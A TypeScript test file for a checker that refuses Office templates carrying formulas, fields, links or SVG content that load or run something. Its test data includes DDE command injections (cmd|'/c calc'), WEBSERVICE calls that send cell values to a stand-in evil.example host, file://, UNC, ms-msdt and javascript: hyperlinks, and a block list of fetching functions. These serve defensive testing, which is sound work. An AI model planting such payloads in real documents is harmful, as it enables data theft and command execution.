/** Forms in which a template may carry something that loads or runs, in each kind of Office file. */
import { describe, expect, test } from 'bun:test'
import process from 'node:process'
import { openPackage } from '../../../../src/reports/templates/package.ts'
import { TemplateError } from '../../../../src/reports/templates/problems.ts'
import { formulaProblem } from '../../../../src/reports/templates/safety/formulas.ts'
import {
  contentTypes,
  type Parts,
  relationships,
  SHEET_NAMESPACES,
  smallDocument,
  smallWorkbook,
  zipOf,
} from '../../../support/office.ts'
import { needs } from '../../../support/servers.ts'

needs('quiet')

const SHEET = 'xl/worksheets/sheet1.xml'
const WORD = 'word/document.xml'
const SLIDE = 'ppt/slides/slide1.xml'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

const smallPresentation = (parts: Parts = {}): Parts => ({
  '[Content_Types].xml': contentTypes({
    'ppt/presentation.xml': 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
  }),
  '_rels/.rels': relationships(['officeDocument', 'ppt/presentation.xml']),
  'ppt/presentation.xml': '<p:presentation xmlns:p="p"/>',
  [SLIDE]: '<p:sld xmlns:p="p"/>',
  ...parts,
})

const FORMATS = {
  xlsx: { make: smallWorkbook, owner: SHEET },
  docx: { make: (parts: Parts) => smallDocument('<w:p/>', parts), owner: WORD },
  pptx: { make: smallPresentation, owner: SLIDE },
} as const
const formats = ['xlsx', 'docx', 'pptx'] as const

async function problemsOf(parts: Parts) {
  try {
    await openPackage(await zipOf(parts), { maxTemplateMb: 25 })
    return []
  } catch (error) {
    if (error instanceof TemplateError) return error.problems
    throw error
  }
}

async function expectRefused(parts: Parts, details: string) {
  const problems = await problemsOf(parts)
  expect(problems.map(({ code }) => code)).toContain('TEMPLATE_UNSAFE')
  expect(problems.map((problem) => problem.details).join('\n')).toContain(details)
}

const cell = (content: string) =>
  `<worksheet ${SHEET_NAMESPACES} xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1">${content}</c></row></sheetData></worksheet>`

/** One formula that calls WEBSERVICE, in each way to write the same text in XML. */
const SPELLINGS: Readonly<Record<string, (tag: string) => string>> = {
  plain: (tag) => `<${tag}>WEBSERVICE("http://x")</${tag}>`,
  'a CDATA section': (tag) => `<${tag}><![CDATA[WEBSERVICE("http://x")]]></${tag}>`,
  'two CDATA sections': (tag) => `<${tag}><![CDATA[WEBSER]]><![CDATA[VICE("http://x")]]></${tag}>`,
  'a comment within': (tag) => `<${tag}>WEBSER<!-- x -->VICE("http://x")</${tag}>`,
  'a comment before': (tag) => `<${tag}><!-- < > -->WEBSERVICE("http://x")</${tag}>`,
  'an instruction within': (tag) => `<${tag}>WEBSER<?a b?>VICE("http://x")</${tag}>`,
  'character references': (tag) => `<${tag}>&#87;&#x45;BSERVICE("http://x")</${tag}>`,
  'a reference with zeros': (tag) => `<${tag}>&#x0000000057;EBSERVICE("http://x")</${tag}>`,
  'a prefix': (tag) => `<x:${tag}>WEBSERVICE("http://x")</x:${tag}>`,
  'a prefix with a dot': (tag) => `<x.y:${tag} xmlns:x.y="urn:a">WEBSERVICE("http://x")</x.y:${tag}>`,
  'a prefix with a letter beyond ASCII': (tag) => `<ä:${tag} xmlns:ä="urn:a">WEBSERVICE("http://x")</ä:${tag}>`,
  'an attribute with >': (tag) => `<${tag} a=">">WEBSERVICE("http://x")</${tag}>`,
  'an element within': (tag) => `<${tag}>WEBSER<x:y/>VICE("http://x")</${tag}>`,
}

describe.each(Object.entries(SPELLINGS))('a call of WEBSERVICE as %s', (_, spell) => {
  test.each(['f', 'formula', 'formula1', 'definedName', 'calculatedColumnFormula', 'nf'])('in <%s>', (tag) =>
    expectRefused(smallWorkbook({ [SHEET]: cell(spell(tag)) }), 'WEBSERVICE('),
  )
})

test.each([
  ['UTF-16', Uint8Array.from(Buffer.from(`\ufeff${cell('<f>RTD("a")</f>')}`, 'utf16le')), 'RTD('],
  ['UTF-16 without a mark', Uint8Array.from(Buffer.from(cell('<f>RTD("a")</f>'), 'utf16le')), ''],
])('a sheet in %s', async (_, bytes, details) => {
  const problems = await problemsOf(smallWorkbook({ [SHEET]: bytes }))
  expect(problems).toHaveLength(1)
  expect(problems[0]!.details).toContain(details)
})

test.each([
  ['the value of a rule', cell('<cfvo type="formula" val="RTD(&quot;a&quot;)"/>')],
  ['a calculated item', '<calculatedItem formula="CALL(1)"/>'],
  ['the macro of a shape', `<xdr:sp xmlns:xdr="x" macro="'C:\\b.xlsm'!m"/>`],
  ['the text of a shape', `<xdr:sp xmlns:xdr="x" textlink="[1]S!A1"/>`],
])('a formula in %s', async (_, xml) => {
  expect(await problemsOf(smallWorkbook({ 'xl/a.xml': xml }))).toMatchObject([{ code: 'TEMPLATE_UNSAFE' }])
})

test('markup counts under any name and type, also in VML that is not well-formed', async () => {
  await expectRefused(smallWorkbook({ 'xl/worksheets/sheet2.bin': cell('<f>RTD("a")</f>') }), 'RTD(')
  const vml = (content: string) => smallWorkbook({ 'xl/drawings/vmlDrawing1.vml': `<xml><br>${content}</xml>` })
  await expectRefused(vml('<x:FmlaMacro><![CDATA[CALL(1)]]></x:FmlaMacro>'), 'CALL(')
  await expectRefused(vml('<v:imagedata src="http://x/a.png">'), 'http://x/a.png')
})

test.each<[string, string | null]>([
  ['SUM(A1:B2)&"WEBSERVICE(|"', null],
  ["'It''s'!A1+'Q 1:Q 4'!B2", null],
  ['Table1[[#This Row],[a b]]*[@Qty]*Sheet2!A1', null],
  ['RECALL(A1)+MYCALL (1)', null],
  ['_xlfn.STDEV.S(A1)', null],
  ['_xlfn.WEBSERVICE (A1)', 'the formula calls WEBSERVICE('],
  ['MAP(A1:A3,_xleta.WEBSERVICE)', 'the formula calls WEBSERVICE('],
  ['_xlfn._xlws.PY(0,1)', 'the formula calls PY('],
  ['1+register.id ("a")', 'the formula calls REGISTER.ID('],
  ["cmd|'/c calc'!A1", 'the formula has a DDE link'],
  ["'cmd'|'/c calc'!A1", 'the formula has a DDE link'],
  ['_xlfn.LET(_xlpm.w,WEBSERVICE,_xlpm.w("http://x"))', 'the formula calls WEBSERVICE('],
  ['(IF(1,WEBSERVICE))("http://x")', 'the formula calls WEBSERVICE('],
  ['MAP(A1:A3,stockhistory)', 'the formula calls STOCKHISTORY('],
  ['SUM(Files)+Image+Call!A1+RTD!B2+Rtd[Sales]+Py', null],
  ['HYPERLINK("https://x/"&A1,"Note: see")', null],
  ['HYPERLINK("#Sheet2!A1","file: here")&"file://x"', null],
  ['HYPERLINK(A1,"x")', null],
  ['IF(A1="","",HYPERLINK("mailto:a@b.c","x"))', null],
  ['HYPERLINK("file://evil/x","x")', 'refers to something outside of the file: HYPERLINK file://evil/x'],
  ['HYPERLINK("\\\\evil\\share","x")', 'refers to something outside of the file: HYPERLINK \\\\evil\\share'],
  ['1+hyperlink ( "ms-msdt:/id","x")', 'refers to something outside of the file: HYPERLINK ms-msdt:/id'],
  ['HYPERLINK(IF(1,"javascript:x",""),"x")', 'refers to something outside of the file: HYPERLINK javascript:x'],
  ['HYPERLINK("https://x",HYPERLINK("file:x"))', 'refers to something outside of the file: HYPERLINK file:x'],
  ['[1]Sheet1!A1', 'the formula refers to another workbook'],
  ['SUM([Book.xlsx]Jan:Dec!A1)', 'the formula refers to another workbook'],
  ["'C:\\a\\b.xls'!name", 'the formula refers to another workbook'],
  ["'http://x/[b.xlsx]S'!A1", 'the formula refers to another workbook'],
  ["'file:///x.ods'#$S.A1", 'the formula refers to another workbook'],
  [`Table1['#x]&WEBSERVICE("u")`, 'the formula calls WEBSERVICE('],
  [`Table1[a"b]&WEBSERVICE("u")`, 'the formula calls WEBSERVICE('],
  [`Table1[[#All],['[x]]&WEBSERVICE("u")`, 'the formula calls WEBSERVICE('],
  [`Table1[a'']&'[1]S'!A1`, 'the formula refers to another workbook'],
  [`Table1['']]&cmd|'/c calc'!A0`, 'the formula has a DDE link'],
  [`Table1[[it''s]:[a"b]]`, null],
  [`A1[+WEBSERVICE("u")`, 'the formula calls WEBSERVICE('],
  // The workbook itself, as Excel writes its names into charts.
  ['SUM([0]!sales)', null],
  ['[0]!sales&[1]!sales', 'the formula refers to another workbook'],
  ["'[0]S'!A1", 'the formula refers to another workbook'],
  ['[0]!WEBSERVICE("u")', 'the formula calls WEBSERVICE('],
  [`"${'a'.repeat(8191)}"`, 'the formula has more than 8192 characters'],
])('the formula %s', (formula, problem) => expect(formulaProblem(formula)).toBe(problem))

type Related = readonly [kind: string, target: string, mode?: 'External']

describe.each(formats)('relationships of %s', (format) => {
  const { make, owner } = FORMATS[format]
  const path = owner.replace(/([^/]+)$/, '_rels/$1.rels')
  const related = (...one: readonly Related[]) => make({ [path]: relationships(...one) })

  test.each([
    'oleObject',
    'OLEOBJECT',
    'externalLink',
    'externalLinkPath',
    'connections',
    'queryTable',
    'attachedTemplate',
    'subDocument',
    'frame',
    'aFChunk',
    'control',
    'package',
    'mailMergeSource',
    'recipientData',
    'transform',
    'xlMacrosheet',
    'powerPivotData',
    'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
    'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
    'http://schemas.microsoft.com/office/2007/relationships/ui/extensibility',
  ])('%s', async (kind) => {
    expect(await problemsOf(related([kind, 'a.bin']))).toMatchObject([{ code: 'TEMPLATE_UNSAFE', place: owner }])
  })

  test.each<[Related]>([
    [['image', 'http://x/a.png', 'External']],
    [['image', 'http://x/a.png']],
    [['image', ' HTTP://x/a.png']],
    [['image', '%68ttp://x/a.png']],
    [['image', '//x/a.png']],
    [['image', '\\\\x\\a.png']],
    [['image', 'C:\\a.png']],
    [['image', 'file:///a.png']],
    [['image', '../../../../a.png']],
    [['audio', 'https://x/a.mp3', 'External']],
    [['chartUserShapes', 'https://x/a.xml']],
    [['hyperlink', 'file:///c:/x', 'External']],
    [['hyperlink', '\\\\x\\a', 'External']],
    [['hyperlink', 'javascript:a', 'External']],
  ])('%s', async (one) => {
    expect(await problemsOf(related(one))).toMatchObject([{ code: 'TEMPLATE_UNSAFE', place: owner }])
  })

  test('written with a prefix, a comment, a CDATA section, references and other quotes', async () => {
    const namespace = 'http://schemas.openxmlformats.org/package/2006/relationships'
    const one = (mode: string) =>
      `<a.b:Relationships xmlns:a.b="${namespace}"><!-- <x --><![CDATA[<x]]><a.b:Relationship Id='r1' Type='${OFFICE}/image' Target='&#104;ttp://x/a.png'${mode}/></a.b:Relationships>`
    for (const mode of ['', " TargetMode='External'", " TargetMode='&#69;xternal'"]) {
      await expectRefused(make({ [path]: one(mode) }), 'image http://x/a.png')
    }
  })

  test('links to pages and to parts are accepted', async () => {
    const links = related(
      ['hyperlink', 'https://x/', 'External'],
      ['hyperlink', 'mailto:a@x', 'External'],
      ['x', 'a.xml'],
    )
    expect(await problemsOf(links)).toEqual([])
  })

  const svg = (content: string, before = '') =>
    make({ 'media/image1.svg': `${before}<svg xmlns="http://www.w3.org/2000/svg">${content}</svg>` })
  test.each<[string, string]>([
    ['<image href="http://x/a.png"/>', ''],
    ['<image xmlns:l="http://www.w3.org/1999/xlink" l:href="//x/a.png"/>', ''],
    ['<use href="other.svg#a"/>', ''],
    ['<feImage href="&#104;ttp://x"/>', ''],
    ['<image href="data:image/svg+xml,a"/>', ''],
    ['<style>@import "a.css";</style>', ''],
    ['<style><![CDATA[a{fill:u]]><!-- --><![CDATA[rl(http://x)}]]></style>', ''],
    ['<style>a{fill:\\75rl(http://x)}</style>', ''],
    ['<rect style="fill:url( \'http://x\')"/>', ''],
    ['<rect fill="url(a.svg#b)"/>', ''],
    ['<set attributeName="xlink:href" to="http://x"/>', ''],
    ['<script/>', ''],
    ['<foreignObject/>', ''],
    ['<g xml:base="http://x/a.svg"><use href="#b"/></g>', ''],
    ['<rect onload="a()"/>', ''],
    ['<g/>', '<?xml-stylesheet href="http://x"?>'],
  ])('a picture with %s', async (content, before) => {
    expect(await problemsOf(svg(content, before))).toMatchObject([
      { code: 'TEMPLATE_UNSAFE', place: 'media/image1.svg' },
    ])
  })
  test.each([
    '<svg xmlns="http://www.w3.org/2000/sv&#103;"><script/></svg>',
    '<s:svg xmlns:s="http://www.w3.org/2000/&#x73;vg"><s:image href="http://x/a.png"/></s:svg>',
    '<g xmlns="http://www.w3.org/2000/svg"><svg><script/></svg></g>',
  ])('however the namespace is written: %s', async (picture) => {
    for (const path of ['media/image1.svg', 'media/image1.png']) {
      expect(await problemsOf(make({ [path]: picture }))).toMatchObject([{ code: 'TEMPLATE_UNSAFE', place: path }])
    }
  })
  test('pictures that load nothing are accepted', async () => {
    const good =
      '<a href="https://x"><rect fill="url(#b)"/></a><image href="data:image/png;base64,AAAA"/><use href="#b"/>'
    expect(await problemsOf(svg(`<style>a{fill:url("#b")}</style>${good}`))).toEqual([])
  })

  test('workbooks of charts are checked like the file', async () => {
    const embedded = async (parts: Parts) => make({ 'x/embeddings/a.xlsx': await zipOf(smallWorkbook(parts)) })
    expect(await problemsOf(await embedded({}))).toEqual([])
    await expectRefused(await embedded({ [SHEET]: cell('<f>RTD(1)</f>') }), 'RTD(')
    await expectRefused(await embedded({ 'a.xlsx': await zipOf(smallWorkbook()) }), 'a file inside of a file')
    await expectRefused(make({ 'x/embeddings/a.xls': Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0) }), 'old binary format')
  })

  test.each(['<o:OLEObject/>', '<p:oleObj/>', '<oleObject/>', '<w:connectString/>', '<w:altChunk/>', '<DataMashup/>'])(
    'the element %s',
    async (element) => {
      const problems = await problemsOf(make({ 'x/a.xml': `<a xmlns:o="o" xmlns:w="w" xmlns:p="p">${element}</a>` }))
      expect(problems).toMatchObject([{ code: 'TEMPLATE_UNSAFE', place: 'x/a.xml' }])
    },
  )
})

test.each(['program', 'macro?name=a', 'ole?verb=0', 'hlinkfile', 'hlinkpres'])(
  'a click that runs %s',
  async (action) => {
    const click = (name: string) =>
      smallPresentation({ [SLIDE]: `<p:sld xmlns:p="p"><a action="ppaction://${name}"/></p:sld>` })
    await expectRefused(click(action), 'a click on the slide')
    expect(await problemsOf(click('hlinksldjump'))).toEqual([])
  },
)

describe('fields of Word', () => {
  const run = (content: string) => `<w:r>${content}</w:r>`
  const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`)
  const field = (code: string) => `${mark('begin')}${code}${mark('separate')}${run('<w:t>x</w:t>')}${mark('end')}`
  const code = (text: string) => run(`<w:instrText>${text}</w:instrText>`)
  const refused = async (body: string, parts: Parts = {}) =>
    (await problemsOf(smallDocument(`<w:p>${body}</w:p>`, parts))).map(({ details }) => details)
  const names = ['INCLUDEPICTURE', 'INCLUDETEXT', 'INCLUDE', 'IMPORT', 'RD', 'LINK', 'DDE', 'DDEAUTO', 'DATABASE']

  test.each([...names, 'EMBED', 'CONTROL', 'PRINT'])('%s', async (name) => {
    const loads = [`the field ${name} loads something from outside`]
    const half = name.slice(0, 1)
    const rest = name.slice(1)
    const forms = [
      field(code(` ${name} "http://x"`)),
      field(code(` ${name.toLowerCase()} x`)),
      field(code(half) + code(`${rest} x`)),
      field(`${code(half)}</w:p><w:p>${code(`${rest} x`)}`),
      field(code(`<![CDATA[${half}]]>${rest} x`)),
      field(code(`${half}<!-- x -->${rest} x`)),
      field(code(`${half}<?x y?>${rest} x`)),
      field(code(`&#${half.charCodeAt(0)};${rest} x`)),
      field(code(`&quot;${name}&quot; x`)),
      field(run(`<w:delInstrText>${name} x</w:delInstrText>`)),
      field(run(`<w:t>${name} x</w:t>`)),
      field(`<ä:r xmlns:ä="a"><ä:instrText>${name} x</ä:instrText></ä:r>`),
      field(code(' IF ') + field(code(`${name} x`)) + code(' = 1')),
      `<w:fldSimple w:instr=" ${name} x"/>`,
      `<w:fldSimple w:instr="&#${half.charCodeAt(0)};${rest} x"/>`,
      `${mark('begin')}${code(`${name} x`)}`,
      code(`${name} x`),
    ]
    for (const form of forms) expect([form, await refused(form)]).toEqual([form, loads])
    expect(await refused('', { 'word/header1.xml': `<w:hdr xmlns:w="w">${forms[0]}</w:hdr>` })).toEqual(loads)
  })

  test('a name that another field gives, and links to files', async () => {
    expect(await refused(field(field(code('QUOTE "DDE"')) + code('AUTO c')))).toEqual([
      'the name of a field is made by another field',
    ])
    const link = (target: string) => refused(field(code(` HYPERLINK "${target}" `)))
    expect(await link('file:///c:/x')).toHaveLength(1)
    expect(await link('\\\\\\\\x\\\\a')).toHaveLength(1)
    expect(await refused(field(code('HYPERLINK \\l "a" \\o "Note: b"')))).toEqual([])
    expect(await refused(field(code('HYPERLINK \\l "a" "file:///x"')))).toHaveLength(1)
    expect([await link('https://x'), await link('mailto:a@x'), await link('https://x" \\o "Note: a')].flat()).toEqual(
      [],
    )
  })

  test.each([' PAGE ', ' TOC \\o "1-3"', ' REF LINK ', ' DATE \\@ "d"', '= 1 + 2', ' MERGEFIELD DDE '])(
    '%s stays',
    async (text) =>
      expect(await refused(field(code(text)) + field(code('IF') + field(code('PAGE')) + code('=1 2')))).toEqual([]),
  )
})

describe('doubling a hostile file doubles the time', () => {
  const many = (text: string) => (count: number) => text.repeat(count)
  const sheet = (content: string) => smallWorkbook({ [SHEET]: content })
  const HOSTILE: Readonly<Record<string, (count: number) => Parts>> = {
    'brackets in a formula': (count) => sheet(cell(`<f>${many("'[")(count)}</f>`)),
    'brackets in many formulas': (count) => sheet(cell(`<f>${many("'[")(2000)}</f>`.repeat(count / 500))),
    'open tags': (count) => sheet(many('<f ')(count)),
    'open quotes': (count) => sheet(many(`<f a="`)(count)),
    'a long name': (count) => sheet(`<${many('f')(count)}`),
    'spaces in a tag': (count) => sheet(`<f${many(' ')(count)}`),
    'open comments': (count) => sheet(`<a>${many('<!--')(count)}`),
    'open types': (count) => smallWorkbook({ '[Content_Types].xml': many('<Default ')(count) }),
    'open comments of types': (count) => smallWorkbook({ '[Content_Types].xml': many('<!-- ')(count) }),
    'open relationships': (count) => smallWorkbook({ '_rels/.rels': many('<Relationship a=">')(count) }),
    'fields without end': (count) =>
      smallDocument(
        many('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>a</w:instrText></w:r>')(count),
      ),
    'open tags of VML': (count) => smallWorkbook({ 'xl/a.vml': many('<x:FmlaMacro ')(count) }),
  }
  const COUNT = 20_000

  /** Processor time of this process in milliseconds, which other processes do not stretch. */
  function processorMs(): number {
    const { user, system } = process.cpuUsage()
    return (user + system) / 1000
  }

  async function cost(parts: Parts): Promise<number> {
    const bytes = await zipOf(parts)
    let best = Number.POSITIVE_INFINITY
    for (let turn = 0; turn < 3; turn++) {
      const start = processorMs()
      await openPackage(bytes, { maxTemplateMb: 25 }).catch(() => {})
      best = Math.min(best, processorMs() - start)
    }
    return best
  }

  test.each(Object.entries(HOSTILE))('%s', async (_, make) => {
    // The harmless file of the same size is the control of the run: opening a file has a price of its own.
    const size = (parts: Parts) => Object.values(parts).reduce((sum, part) => sum + part.length, 0)
    const harmless = (parts: Parts) => sheet(cell(`<v>${'a b '.repeat(size(parts) / 4)}</v>`))
    const [small, large] = [make(COUNT), make(COUNT * 4)]
    const [control, hostile] = [await cost(harmless(large)), await cost(large)]
    // Four times the size takes four to six times as long; quadratic time would be sixteen times as long.
    expect(hostile).toBeLessThan(12 * (await cost(small)) + 12 * control)
  })
})

const FETCHING = [
  'WEBSERVICE IMPORTDATA IMPORTXML IMPORTHTML IMPORTFEED IMPORTRANGE IMPORTJSON IMPORTTEXT IMPORTCSV IMAGE STOCKHISTORY RTD DDE',
  'GOOGLEFINANCE GOOGLETRANSLATE CUBEVALUE CUBEMEMBER CUBEMEMBERPROPERTY CUBESET CUBESETCOUNT CUBERANKEDMEMBER CUBEKPIMEMBER',
  'SQL.REQUEST SQL.OPEN SQL.EXEC.QUERY SQL.RETRIEVE SQL.RETRIEVE.TO.FILE CALL REGISTER REGISTER.ID UNREGISTER EXEC FOPEN FILES',
  'FWRITE FWRITELN FREAD FREADLN SEND.MAIL SEND.KEYS OPEN.LINKS INITIATE POKE EVALUATE COPILOT PY TRANSLATE DETECTLANGUAGE',
].flatMap((line) => line.split(' '))

test.each(FETCHING)('the function %s is found in every spelling', (name) => {
  const url = '"https://evil.example/x"'
  for (const formula of [
    `${name}(${url})`,
    `IFERROR(${name.toLowerCase()} (${url}),"")`,
    `_xlfn.${name}(${url})`,
    `_xlfn._xlws.${name}(A1)`,
    `"a"&${name}(A1&"?q="&B2)`,
    `MAP(A1:A3,_xleta.${name})`,
  ]) {
    expect([formula, formulaProblem(formula)]).toEqual([formula, `the formula calls ${name}(`])
  }
  // In a text, as a sheet or a table it is a name like any other.
  for (const formula of [`"${name}(1)"`, `'${name}'!A1`, `SUM(${name}!A1)`, `MY_${name}(A1)`]) {
    expect([formula, formulaProblem(formula)]).toEqual([formula, null])
  }
})
